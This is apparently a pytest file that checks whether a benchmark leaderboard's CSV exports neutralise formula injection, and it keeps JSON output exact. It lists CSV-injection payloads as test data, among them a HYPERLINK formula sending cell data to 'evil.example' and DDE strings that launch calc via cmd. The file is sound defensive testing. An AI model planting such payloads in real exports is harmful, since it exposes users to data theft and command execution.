"""Board and submission CSVs neutralise lab text that a spreadsheet would run as a formula
(OWASP CSV injection), while the JSON keeps it exact and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import orjson
import pytest

from builder.render.data import board_files, to_csv
from hostile.support import BETA, edit_manifest, run, set_field

PAYLOADS = {
    "equals-hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus-dde": "+cmd|' /C calc'!A0",
    "minus-formula": "-2+3+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "leading-space-equals": " =1+1",
    "full-width-equals": "＝1+1",
}


def _csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode())))


@pytest.mark.parametrize("name", PAYLOADS)
@pytest.mark.parametrize("field,column", [("model.name", "model"), ("model.family", "family"), ("judge", "judge"), ("config.reasoning_effort", "reasoning_effort")])
def test_formula_text_is_neutralised_in_csv_and_exact_in_json(inst, name: str, field: str, column: str) -> None:
    payload = PAYLOADS[name]
    edit_manifest(inst.bundles[BETA], set_field(field, payload), inst.lab_keys["beta"])
    report = run(inst)
    if report.rejections:  # a payload display cleaning refuses (e.g. a leading space) is also safe
        assert [r.reason for r in report.rejections] == ["bad-display-name"]
        return
    (state,) = report.benchmarks
    _, files = board_files(state)
    subs = {r["submission"]: r for r in _csv(files["soohak/submissions.csv"])}
    assert subs[BETA][column] == "'" + payload
    assert orjson.loads(files["soohak/submissions.json"])["rows"][1][column] == payload  # JSON exact
    if column == "model":
        for path, data in files.items():
            if path.endswith(".csv") and path != "soohak/submissions.csv":
                for row in _csv(data):
                    if row.get("submission") == BETA:
                        assert row["model"] == "'" + payload, path
    for path, data in files.items():
        if path.endswith(".csv"):
            for row in _csv(data):
                for value in row.values():
                    if _is_number(value):
                        continue  # a negative number (a difference's interval) is a numeric cell, not a formula
                    assert not (value or "").lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (path, value)


def _is_number(value: str | None) -> bool:
    try:
        float(value or "")
    except ValueError:
        return False
    return True


def test_negative_numbers_stay_numeric_cells() -> None:
    data = to_csv(["gain", "label", "n"], [{"gain": -0.25, "label": "-0.25", "n": -3}, {"gain": None, "label": "ok", "n": 0}])
    assert data.decode().splitlines() == ["gain,label,n", "-0.25,'-0.25,-3", ",ok,0"]
